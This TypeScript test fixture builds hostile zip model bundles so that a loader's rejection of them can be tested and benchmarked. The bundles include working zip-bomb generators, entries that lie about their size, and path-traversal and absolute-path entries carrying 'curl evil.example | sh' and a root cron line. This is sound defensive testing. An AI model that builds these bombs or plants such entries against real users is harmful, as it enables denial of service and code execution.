/**
 * Hostile NAME.sift.zip files, built in code from a valid float32 bundle: what a stranger could send.
 * Used by hostile.test.ts (coded error, bounded memory) and by the bench's hostile-bundles
 * section (time to refuse, peak memory). Each is cheap to build: the zip bombs are made of one
 * deflated mebibyte of zeros repeated, so a "2 GiB" entry costs 2 MB here.
 */
import { constants, deflateRawSync } from 'node:zlib';
import { strFromU8, strToU8, unzipSync } from 'fflate';
import type { SiftErrorCode } from '@/core/errors';
import { crc32 } from '@/core/bundle/zip';

const MiB = 2 ** 20;
const GiB = 2 ** 30;

/** One zip entry exactly as it will be written: its bytes as stored and what the headers declare. */
export interface RawEntry {
  name: string;
  method: 0 | 8;
  data: Uint8Array;
  /** Declared uncompressed size (may lie). */
  size: number;
  crc: number;
}

export function deflatedEntry(name: string, content: Uint8Array): RawEntry {
  return { name, method: 8, data: new Uint8Array(deflateRawSync(content)), size: content.length, crc: crc32(content) };
}

/**
 * Raw deflate data that inflates to `prefix` followed by `zeros` zero bytes: the prefix and each
 * mebibyte of zeros are sync-flushed (byte-aligned, not final) blocks, repeated, then one final
 * empty block. 2 GiB of zeros take about 2 MB.
 */
export function runOnDeflate(zeros: number, prefix: Uint8Array = new Uint8Array(0)): Uint8Array {
  const flush = { finishFlush: constants.Z_SYNC_FLUSH };
  const head = prefix.length > 0 ? [new Uint8Array(deflateRawSync(prefix, flush))] : [];
  const mebibyte = new Uint8Array(deflateRawSync(new Uint8Array(MiB), flush));
  const tail = new Uint8Array(deflateRawSync(new Uint8Array(zeros % MiB)));
  const parts = [...head, ...Array.from({ length: Math.floor(zeros / MiB) }, () => mebibyte), tail];
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** A zip archive of these entries, headers written by hand so that they can declare anything. */
export function writeZip(entries: RawEntry[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = strToU8(e.name);
    const local = new Uint8Array(30 + name.length);
    const l = new DataView(local.buffer);
    l.setUint32(0, 0x04034b50, true);
    l.setUint16(4, 20, true);
    l.setUint16(6, 0x800, true); // UTF-8 name
    l.setUint16(8, e.method, true);
    l.setUint32(14, e.crc, true);
    l.setUint32(18, e.data.length, true);
    l.setUint32(22, e.size, true);
    l.setUint16(26, name.length, true);
    local.set(name, 30);
    const central = new Uint8Array(46 + name.length);
    const c = new DataView(central.buffer);
    c.setUint32(0, 0x02014b50, true);
    c.setUint16(4, 20, true);
    c.setUint16(6, 20, true);
    c.setUint16(8, 0x800, true);
    c.setUint16(10, e.method, true);
    c.setUint32(16, e.crc, true);
    c.setUint32(20, e.data.length, true);
    c.setUint32(24, e.size, true);
    c.setUint16(28, name.length, true);
    c.setUint32(42, offset, true);
    central.set(name, 46);
    locals.push(local, e.data);
    centrals.push(central);
    offset += local.length + e.data.length;
  }
  const cdSize = centrals.reduce((n, c) => n + c.length, 0);
  const end = new Uint8Array(22);
  const d = new DataView(end.buffer);
  d.setUint32(0, 0x06054b50, true);
  d.setUint16(8, entries.length, true);
  d.setUint16(10, entries.length, true);
  d.setUint32(12, cdSize, true);
  d.setUint32(16, offset, true);
  const parts = [...locals, ...centrals, end];
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** The files of a valid bundle, as name → bytes. */
export function bundleFiles(valid: Uint8Array): Record<string, Uint8Array> {
  return unzipSync(valid);
}

/** A valid bundle rewritten with entries replaced (by name), added, or its JSON edited. */
function rebuilt(valid: Uint8Array, replace: Record<string, RawEntry | null> = {}, extra: RawEntry[] = []): Uint8Array {
  const files = bundleFiles(valid);
  const entries = Object.entries(files)
    .filter(([name]) => replace[name] !== null)
    .map(([name, data]) => replace[name] ?? deflatedEntry(name, data));
  return writeZip([...entries, ...extra]);
}

function withManifest(valid: Uint8Array, change: (manifest: Record<string, unknown>) => void): Uint8Array {
  const manifest = JSON.parse(strFromU8(bundleFiles(valid)['sift.json'])) as Record<string, unknown>;
  change(manifest);
  return rebuilt(valid, { 'sift.json': deflatedEntry('sift.json', strToU8(JSON.stringify(manifest))) });
}

export interface HostileBundle {
  id: string;
  /** What it is, for the bench's table. */
  what: string;
  build(valid: Uint8Array): Uint8Array;
  code: SiftErrorCode;
  message: RegExp;
}

const bomb = (name: string, declared: number, inflated: number): RawEntry => ({ name, method: 8, data: runOnDeflate(inflated), size: declared, crc: 0 });

/** Every hostile bundle of issue 12, each with the coded error Sift must answer with. */
export const HOSTILE_BUNDLES: HostileBundle[] = [
  {
    id: 'bomb',
    what: 'zip bomb: sift.json, model.json and weights.bin each inflate to 2 GiB of zeros (6 MB file)',
    build: () => writeZip(['sift.json', 'model.json', 'weights.bin'].map((name) => bomb(name, 2 * GiB, 2 * GiB))),
    code: 'BUNDLE_TOO_LARGE',
    message: /sift\.json declares 2,147,483,648 bytes/,
  },
  {
    id: 'lying-weights',
    what: 'weights.bin declares its true size, then its deflate stream runs on with 4 GiB of zeros',
    build: (valid) => {
      const weights = bundleFiles(valid)['weights.bin'];
      return rebuilt(valid, { 'weights.bin': { name: 'weights.bin', method: 8, data: runOnDeflate(4 * GiB, weights), size: weights.length, crc: crc32(weights) } });
    },
    code: 'BUNDLE_TOO_LARGE',
    message: /weights\.bin inflates to more than the .* bytes it declares/,
  },
  {
    id: 'lying-manifest',
    what: 'sift.json declares 1 KiB, inflates to 2 GiB of zeros',
    build: (valid) => rebuilt(valid, { 'sift.json': bomb('sift.json', 1024, 2 * GiB) }),
    code: 'BUNDLE_TOO_LARGE',
    message: /sift\.json inflates to more than the 1,024 bytes it declares/,
  },
  {
    id: 'huge-name',
    what: 'sift.json with a 50 MB name',
    build: (valid) => withManifest(valid, (m) => (m.name = 'x'.repeat(50_000_000))),
    code: 'BUNDLE_TOO_LARGE',
    message: /sift\.json holds a text of more than/,
  },
  {
    id: 'huge-label',
    what: 'a 2,000-character label (each text field has its own limit)',
    build: (valid) => withManifest(valid, (m) => ((m.labels as string[])[0] = 'L'.repeat(2000))),
    code: 'BUNDLE_TOO_LARGE',
    message: /labels\[0\] has 2,000 characters \(at most 1,000\)/,
  },
  {
    id: 'many-labels',
    what: 'sift.json lists 5,000 labels',
    build: (valid) => withManifest(valid, (m) => (m.labels = Array.from({ length: 5000 }, (_, i) => `class ${i}`))),
    code: 'BUNDLE_TOO_LARGE',
    message: /labels has 5,000 entries \(at most 2,000\)/,
  },
  {
    id: 'huge-shapes',
    what: 'sift.json asks for 300,000 tokens × 1,024 dims → 4,096 hidden units (307 M weights)',
    build: (valid) =>
      withManifest(valid, (m) => {
        m.vocabulary = ['<pad>', '<unk>', ...Array.from({ length: 299_998 }, (_, i) => `t${i}`)];
        const settings = m.settings as Record<string, unknown>;
        settings.embeddingDim = 1024;
        settings.hiddenUnits = 4096;
      }),
    code: 'BUNDLE_TOO_LARGE',
    message: /The model has 311,422,982 weights; a Sift model has at most 268,435,456/,
  },
  {
    id: 'huge-topology',
    what: 'model.json declares a 1,000,000,000-row embedding (tfjs would allocate it to build the layer)',
    build: (valid) => {
      const modelJson = JSON.parse(strFromU8(bundleFiles(valid)['model.json'])) as { modelTopology: { config: { layers: { config: Record<string, unknown> }[] } } };
      modelJson.modelTopology.config.layers[0].config.input_dim = 1_000_000_000;
      return rebuilt(valid, { 'model.json': deflatedEntry('model.json', strToU8(JSON.stringify(modelJson))) });
    },
    code: 'BUNDLE_MISMATCH',
    message: /the embedding has 1000000000 rows but sift\.json's vocabulary has \d+ tokens/,
  },
  {
    id: 'duplicate-manifest',
    what: 'two entries named sift.json (the second names other labels)',
    build: (valid) => {
      const manifest = JSON.parse(strFromU8(bundleFiles(valid)['sift.json'])) as { labels: string[] };
      manifest.labels = manifest.labels.map((l) => `evil ${l}`);
      return rebuilt(valid, {}, [deflatedEntry('sift.json', strToU8(JSON.stringify(manifest)))]);
    },
    code: 'BUNDLE_ENTRY_NAME',
    message: /named "sift\.json", and a second entry of that same name/,
  },
  {
    id: 'path-traversal',
    what: 'an entry named ../../.bashrc',
    build: (valid) => rebuilt(valid, {}, [deflatedEntry('../../.bashrc', strToU8('curl evil.example | sh\n'))]),
    code: 'BUNDLE_ENTRY_NAME',
    message: /"\.\.\/\.\.\/\.bashrc", which climbs out of its folder/,
  },
  {
    id: 'absolute-path',
    what: 'an entry named /etc/cron.d/sift',
    build: (valid) => rebuilt(valid, {}, [deflatedEntry('/etc/cron.d/sift', strToU8('* * * * * root sh\n'))]),
    code: 'BUNDLE_ENTRY_NAME',
    message: /"\/etc\/cron\.d\/sift", an absolute path/,
  },
  {
    id: 'many-entries',
    what: '10,000 empty entries besides the model',
    build: (valid) => rebuilt(valid, {}, Array.from({ length: 10_000 }, (_, i) => deflatedEntry(`padding/${i}.txt`, new Uint8Array(0)))),
    code: 'BUNDLE_TOO_LARGE',
    message: /holds 10,007 entries/,
  },
  {
    id: 'huge-weights',
    what: 'every weight 3e38: finite, but every prediction overflows to NaN',
    build: (valid) => {
      const weights = bundleFiles(valid)['weights.bin'].slice();
      new Float32Array(weights.buffer).fill(3e38);
      return rebuilt(valid, { 'weights.bin': deflatedEntry('weights.bin', weights) });
    },
    code: 'BUNDLE_BAD_WEIGHTS',
    message: /weights as large as 3\.0e\+38/,
  },
];
